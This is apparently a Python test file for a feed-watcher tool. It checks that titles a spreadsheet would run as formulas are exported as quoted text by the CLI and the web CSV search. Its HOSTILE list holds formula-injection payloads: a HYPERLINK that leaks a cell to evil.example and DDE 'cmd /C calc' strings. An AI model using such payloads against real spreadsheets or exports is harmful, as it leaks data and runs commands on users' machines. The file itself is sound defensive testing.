"""#25 point 9: feed titles that a spreadsheet would run as formulas are exported as text, by
`watcher search --csv` and by the desk's `/search?format=csv` (real processes, a local feed)."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from email.utils import format_datetime

import requests

from tests.e2e import KST, Watcher
from tests.serve_process import serving

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"지원사업 공모 안내")',
    "@SUM(1+1)*cmd|' /C calc'!A0 지원사업 공모",
    "+82 지원사업 공모 +cmd|' /C calc'!A0",
    "-2+3 지원사업 공모",
]


def rss(base: str) -> str:
    when = format_datetime(datetime.now(KST) - timedelta(hours=2))
    items = "".join(f"<item><title><![CDATA[{title}]]></title><link>{base}/view?id={i}</link><guid>{i}</guid>"
                    f"<pubDate>{when}</pubDate></item>" for i, title in enumerate(HOSTILE))
    return f'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>t</title>{items}</channel></rss>'


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_inert(rows: list[list[str]]) -> None:
    titles = [row[3] for row in rows[1:]]
    assert sorted(titles) == sorted("'" + t for t in HOSTILE), titles  # shown as written, behind a '
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_formula_titles_are_exported_as_text_by_search_and_the_desk(tmp_path, feeds):
    feeds.set("/f.xml", rss(feeds.base))
    w = Watcher(tmp_path)
    w.write("sources.yaml", f"sources:\n  - id: board\n    url: {feeds.url('/f.xml')}\n")
    w.write("rules.yaml", 'defaults:\n  channel: "#g"\nrules:\n  - name: all\n    any: [지원사업]\n')
    done = w("once")
    assert done.returncode == 0, done.stderr
    done = w("search", "공모", "--csv")
    assert done.returncode == 0, done.stderr
    assert_inert(rows_of(done.stdout.encode("utf-8")))
    with serving(w) as base:
        answer = requests.get(base + "/search", params={"q": "공모", "format": "csv"}, timeout=30)
        assert answer.status_code == 200
        assert_inert(rows_of(answer.content))


def test_cell_quotes_every_formula_start_and_nothing_else():
    from watcher.web.exports import cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(start + "1+1") == "'" + start + "1+1"
    assert cell("2026-12-01 09:00") == "2026-12-01 09:00"
    assert cell("D-7") == "D-7"
    assert cell(None) == ""
    assert cell("의료기기 =공모") == "의료기기 =공모"
